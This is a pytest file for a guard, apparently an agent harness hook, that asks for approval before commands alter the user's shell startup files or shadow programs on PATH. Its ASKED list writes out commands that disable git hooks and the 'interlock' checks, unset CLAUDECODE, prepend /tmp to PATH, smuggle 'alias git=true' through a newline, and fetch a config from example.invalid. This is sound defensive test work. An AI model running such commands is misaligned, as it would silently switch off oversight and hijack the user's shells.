"""Files that every shell of the user reads, and programs found before others."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.guard.asking import write
from tests.guard.guards.shell_commands_test import run

ASKED = (
    """echo "alias git='git -c core.hooksPath=/dev/null'" >> ~/.bashrc""",
    'printf \'git() { command git "$@" -n; }\\n\' >> ~/.bash_aliases',
    'echo "export SKIP=interlock" >> ~/.profile',
    'echo "export HUSKY=0" >> ~/.zshenv',
    'echo "export GIT_EDITOR=x" >> $HOME/.bashrc',
    'echo "export INTERLOCK_SESSION=x" >> ~/.bashrc',
    "tee -a ~/.zshenv <<< 'unset CLAUDECODE'",
    """echo 'export PATH="/tmp/x:$PATH"' >> ~/.bashrc""",
    """echo 'eval "$(tool init bash)"' >> ~/.bashrc""",
    "echo 'PROMPT_COMMAND=x' >> ~/.bashrc",
    "echo 'A=1 . /tmp/x' >> ~/.bashrc",
    "echo 'export A=1 GIT_EDITOR=x' >> ~/.bashrc",
    """echo 'A="$(x)"' >> ~/.bashrc""",
    """printf 'A="\\nalias git=true\\nB="\\n' >> ~/.bashrc""",
    'cp x ~/.config/fish/config.fish',
    'curl -o ~/.config/fish/conf.d/x.fish https://example.invalid/x',
    "sed -i 's/a/b/' ~/.zshrc",
    'ln -sf "$PWD/x" ~/.bash_profile',
    'echo x > /etc/profile.d/x.sh',
    "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a')\"",
)
ALLOWED = (
    """echo 'export PATH="$HOME/.cargo/bin:$PATH"' >> ~/.bashrc""",
    "echo 'export JAVA_HOME=/usr/lib/jvm/17' >> ~/.zshrc",
    """echo 'A="two words"  # and why' >> ~/.zshrc""",
    "printf '\\n# for the build\\nNODE_ENV=test\\n' >> ~/.profile",
    'cat ~/.bashrc',
    'grep PATH ~/.bashrc ~/.profile',
    'source ~/.bashrc && npm test',
    'cp ~/.bashrc /tmp/x',
    'echo x >> .bashrc',
    'echo x > dotfiles/.zshrc',
    'echo x > ~/.config/other/config',
    'chmod 600 ~/.bashrc',
)


@pytest.mark.parametrize('command', ASKED)
def test_a_shell_of_the_user_stays_as_it_is(command: str, project: Repo) -> None:
    decision = run(command, project.path)
    assert decision.asks, decision.text


@pytest.mark.parametrize('command', ALLOWED)
def test_what_does_no_harm_there(command: str, project: Repo) -> None:
    assert not run(command, project.path).code


def test_a_tool_writes_it_neither(project: Repo) -> None:
    path = Path(os.environ['HOME'], '.bashrc')
    reply = write(path, 'alias git=true\n', project.path)
    assert reply.decision == 'ask'
    assert 'every shell of the user reads' in reply.reason
    assert write(path, 'export EDITED=1\n', project.path).is_silent


def test_a_program_that_would_be_found_first(project: Repo, tmp_path: Path) -> None:
    folder = tmp_path / 'bin'
    folder.mkdir()
    environ = {'PATH': f'{folder}:{os.environ["PATH"]}'}
    for name, decision in (('git', 'ask'), ('tool', ''), ('python', '')):
        reply = write(folder / name, 'x', project.path, environ=environ)
        assert reply.decision == decision, name
    assert write(project.path / 'git', 'x', project.path).is_silent
